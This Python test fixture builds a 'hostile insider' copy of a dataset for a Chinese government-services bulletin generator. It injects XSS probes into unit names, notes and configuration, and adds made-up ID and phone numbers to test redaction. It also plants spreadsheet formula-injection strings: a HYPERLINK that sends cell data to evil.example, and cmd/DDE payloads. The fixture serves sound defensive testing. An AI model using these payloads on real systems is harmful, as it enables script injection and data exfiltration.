"""A hostile insider's copy of seed 000: markup in the analyst's notes, in unit names and in
dataset.yml strings. Every renamed unit keeps its real name as an alias, so the unit_stats
export still matches and the bulletin is otherwise the real one."""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

from support.paths import DATA

MONTH = "2021-02"

# unit as in units.csv → the name the insider gives it
RENAMED = {
    "市公安局": "<img src=x onerror=alert(1)>市公安局<script>alert(2)</script>",
    "市交通运输局": "<details open ontoggle=alert(3)>市交通运输局</details>",
    "宣汉县": "<svg onload=alert(4)>宣汉县",
    "开江县": '<a href="javascript:alert(5)">开江县</a>',
    "大竹县": "<script>alert(6)</script>大竹县",
    # formulas in the downloads
    "市委宣传部": '=HYPERLINK("http://evil.example/?d="&A1,"市委宣传部")',
    "市教育局": "@SUM(1+1)*cmd|' /C calc'!A0",
    "市科学技术局": "-2+3+cmd|' /C calc'!A0",
}

FORMULAS = [RENAMED[u] for u in ("市委宣传部", "市教育局", "市科学技术局")]

# Personal data typed by hand: the numbers as typed, where (file, line is found by text).
PERSONAL_UNIT = "市经济和信息化局"
RENAMED[PERSONAL_UNIT] = "市经济和信息化局（联系人 138 1234 5678）"
PERSONAL_NOTE = ("联系人：张三，身份证号 510722199001011234，手机 139-1234-5678，"
                 "+86 15012345678；旧身份证 510722900101123；证件 51072219900101123X。")
PERSONAL_CONFIG = "（联系电话 13712345678）"
PERSONAL = ["510722199001011234", "51072219900101123X", "510722900101123", "13812345678",
            "13912345678", "15012345678", "13712345678"]

# Typed into the 工作动态 section of notes/2021-02.md, one per line.
NOTES_PAYLOADS = [
    "<img src=x onerror=alert(11)>",
    "<details open ontoggle=alert(12)>展开</details>",
    '<a href="javascript:alert(13)">链接</a>',
    "[链接](javascript:alert(14))",
    "<script>alert(15)</script>",
    '<iframe src="javascript:alert(16)"></iframe>',
    "<svg onload=alert(17)>",
    '<p style="background:url(javascript:alert(18))">段落</p>',
    "<style>body{background:url(javascript:alert(19))}</style>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(20)">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(21)>",
    '<div id="spec-1">{"mark": "text"}</div>',
    "<input autofocus onfocus=alert(22)>",
    '<div class="chart" data-src="chart-1.svg"></div><img src="chart-2.svg">',
    "```{=typst}\n#set page(fill: red)\n```",
]

# Text of the notes that must still be shown.
NOTES_TEXT = "积极推进“一网通办”能力提升百日攻坚行动"

CONFIG = {
    "authority: 达州市政务服务管理局": "authority: 达州市政务服务管理局<img src=x onerror=alert(31)>",
    "    - 各县（市、区）行政审批局，达州高新区行政审批局。":
        "    - <script>alert(32)</script>各县（市、区）行政审批局，达州高新区行政审批局。",
    "    - 各县（市、区）人民政府，达州高新区管委会。":
        "    - 各县（市、区）人民政府，达州高新区管委会" + PERSONAL_CONFIG + "。",
}


def rename_units(folder: Path, renamed: dict[str, str]) -> None:
    path = folder / "units.csv"
    rows = list(csv.reader(path.open(encoding="utf-8")))
    for row in rows[1:]:
        if row[0] in renamed:
            row[1] = ";".join(filter(None, [row[0], row[1]]))  # the export still says row[0]
            row[0] = renamed[row[0]]
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(rows)


def add_to_notes(folder: Path, section: str, lines: list[str]) -> None:
    path = folder / "notes" / f"{MONTH}.md"
    text = path.read_text(encoding="utf-8")
    head = f"## {section}\n\n"
    assert head in text
    path.write_text(text.replace(head, head + "".join(f"{line}\n\n" for line in lines), 1),
                    encoding="utf-8")


def hostile_seed000(folder: Path) -> Path:
    """A copy of data/seed000 in ``folder`` with the insider's markup."""
    target = Path(folder) / "seed000"
    shutil.copytree(DATA / "seed000", target)
    rename_units(target, RENAMED)
    add_to_notes(target, "工作动态", NOTES_PAYLOADS)
    add_to_notes(target, "存在的问题", [PERSONAL_NOTE])
    config = (target / "dataset.yml").read_text(encoding="utf-8")
    for old, new in CONFIG.items():
        assert old in config
        config = config.replace(old, new)
    (target / "dataset.yml").write_text(config, encoding="utf-8")
    return target
